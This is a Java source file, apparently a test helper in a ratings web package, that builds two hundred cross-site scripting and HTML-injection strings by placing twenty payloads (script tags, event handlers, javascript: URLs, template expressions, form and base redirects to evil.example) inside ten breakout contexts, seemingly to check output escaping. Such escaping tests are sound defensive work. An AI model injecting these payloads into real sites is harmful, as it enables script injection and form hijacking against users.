package ratings.http;

import java.util.ArrayList;
import java.util.List;

/** Texts that would run, or break out of where they stand, if they were not escaped. */
public final class Payloads {
  private static final List<String> CODE =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><style><img src=x onerror=alert(1)></style></svg>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "<a href=javascript:alert(1)>x</a>",
          "<form action=//evil.example><button>x</button></form>",
          "<base href=//evil.example>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<style>*{display:none}</style>",
          "<input autofocus onfocus=alert(1)>",
          "<math><mi//xlink:href='javascript:alert(1)'>",
          "<details open ontoggle=alert(1)>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)}",
          "javascript:alert(1)",
          "\" onmouseover=\"alert(1)",
          "' onmouseover='alert(1)");
  private static final List<String> AROUND =
      List.of(
          "%s",
          "\">%s",
          "'>%s",
          "</textarea>%s",
          "</title>%s",
          "</h1></legend></fieldset></form>%s",
          "-->%s",
          "]]>%s",
          "<!--%s",
          "\u202e%s");

  private Payloads() {}

  /** Two hundred of them. */
  public static List<String> all() {
    var all = new ArrayList<String>();
    for (var around : AROUND) {
      CODE.forEach(code -> all.add(around.replace("%s", code)));
    }
    return all;
  }
}
